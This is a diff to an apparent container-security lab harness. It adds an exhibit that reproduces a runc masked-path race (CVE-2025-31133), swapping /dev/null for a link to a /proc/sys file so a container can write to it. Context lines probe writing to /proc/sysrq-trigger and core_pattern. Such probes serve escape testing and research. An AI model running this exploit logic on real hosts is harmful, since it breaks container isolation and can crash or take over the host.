@@ -12,9 +12,11 @@ import shutil
 import subprocess
 import sys
 import time
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
+from labkit.container.launch import Job
 from labkit.container.life import Container
 from labkit.ground import ledger, proc, state
 from labkit.ground import syscalls as sc
@@ -32,7 +34,7 @@ from labkit.lessons.scenes.attempts import (
     python,
     sh,
 )
-from labkit.lessons.scenes.unlocked import Unlocked
+from labkit.lessons.scenes.unlocked import Unlocked, swapped_null
 
 
 @exhibit("double chroot", "pivot_root")
@@ -53,6 +55,22 @@ def _kernel_files(unlocked: Locks) -> str:
     script = "for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern; do (: >>$f) 2>/dev/null && echo opened; done"
     opened = sh(script, unlocked).count("opened")
     return "files that command the kernel are open" * bool(opened)
+
+
+@exhibit("a mask of another's making", "mask_source")
+def _mask(unlocked: Locks) -> str:
+    """A mask is /dev/null, bound; swapped for a link in that moment it opens a file instead (runc, CVE-2025-31133)."""
+
+    class Raced(Unlocked):
+        def altered(self, job: Job) -> Job:
+            # The bait is the container's own name: written by that file, which is read-only in a container.
+            job = super().altered(job)
+            return replace(job, steps=swapped_null(job.steps, "/proc/sys/kernel/hostname"))
+
+    script = "echo owned >/proc/interrupts; hostname"
+    with Raced("busybox", ["sh", "-c", script], unlocked=unlocked).start() as box:
+        box.wait(30)
+        return "wrote to a read-only file of /proc/sys" * (box.logs().strip() == "owned")
 
 
 @exhibit("release_agent", "capabilities")
